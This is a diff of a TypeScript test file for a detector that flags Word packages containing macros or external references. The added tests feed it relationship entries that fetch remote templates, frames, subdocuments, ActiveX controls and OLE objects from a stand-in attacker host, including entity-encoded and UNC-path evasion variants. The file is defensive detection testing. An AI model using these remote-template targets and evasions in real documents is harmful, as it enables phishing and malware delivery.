@@ -6,9 +6,9 @@ import {
   MACRO_MAIN,
   WORD_MAIN,
 } from '@/dev/testing/data/documents';
-import { tellsOfMacros } from './package-list';
+import { tellsOfCode } from './package-list';
 
-const tells = (text: string, encoding: BufferEncoding = 'utf8') => tellsOfMacros(Buffer.from(text, encoding));
+const tells = (text: string, encoding: BufferEncoding = 'utf8') => tellsOfCode(Buffer.from(text, encoding));
 
 test('of a document without macros nothing is told, in the encodings Word and others write', () => {
   for (const encoding of ['UTF-8', 'utf8', 'us-ascii', 'ISO-8859-1', 'windows-1252']) {
@@ -38,6 +38,57 @@ describe('macros are told of', () => {
 
   test('by what is not UTF-8', () => {
     expect(tells(contentTypes(WORD_MAIN), 'utf16le')).toBe(true);
-    expect(tellsOfMacros(Buffer.from([0x3c, 0xff, 0x3e]))).toBe(true);
+    expect(tellsOfCode(Buffer.from([0x3c, 0xff, 0x3e]))).toBe(true);
   });
+});
+
+/** A list with one relationship to something outside of the package. */
+const external = (kind: string, target: string): string =>
+  `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}" Target="${target}" TargetMode="External"/></Relationships>`;
+
+describe('something that Word fetches is told of', () => {
+  test.each([
+    ['attachedTemplate', 'http://evil.example/a.dotm'],
+    ['attachedTemplate', 'https&#58;//evil.example/a.dotx'],
+    ['attachedTemplate', 'ht&#x74;p://evil.example/a.dotx'],
+    ['attachedTemplate', '\\\\evil.example\\a.dotm'],
+    ['attachedTemplate', 'file://evil.example/a.dotm'],
+    ['attachedTemplate', 'file:///\\\\evil.example\\a.dotm'],
+    ['attachedTemplate', '//evil.example/a.dotm'],
+    ['frame', 'mhtml:http://evil.example/a!x'],
+    ['subDocument', 'ftp://evil.example/a.docx'],
+    ['package', 'https://evil.example/a.xlsx'],
+    ['image', '\\\\evil.example\\a.png'],
+    ['image', 'file://evil.example/a.png'],
+  ])('%s: %s', (kind, target) => {
+    expect(tells(external(kind, target))).toBe(true);
+    expect(tells(external(kind, target).replaceAll('"', "'"))).toBe(true);
+    expect(tells(external(kind, target).replace('<Relationship ', '<r:Relationship a=">" '))).toBe(true);
+  });
+});
+
+describe('nothing is told of', () => {
+  test.each([
+    ['hyperlink', 'https://linkedin.com/in/akinyi'],
+    ['hyperlink', 'mailto:akinyi@people.example'],
+    ['attachedTemplate', 'file:///C:/Users/Akinyi/AppData/Roaming/Microsoft/Templates/Resume.dotx'],
+    ['attachedTemplate', 'C:\\Users\\Akinyi\\Resume.dotx'],
+    ['attachedTemplate', 'Normal.dotm'],
+    ['image', 'https://lh3.google.example/photo.png'],
+    ['image', 'file:///C:/Users/Akinyi/photo.jpg'],
+  ])('%s: %s', (kind, target) => {
+    expect(tells(external(kind, target))).toBe(false);
+  });
+});
+
+test.each([
+  ['a control', 'http://schemas.microsoft.com/office/2006/relationships/activeXControlBinary'],
+  [
+    'an object of another program',
+    'http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject',
+  ],
+])('%s is told of', (_, type) => {
+  expect(tells(`<Relationships><Relationship Id="r1" Type="${type}" Target="a.bin"/></Relationships>`)).toBe(
+    true,
+  );
 });
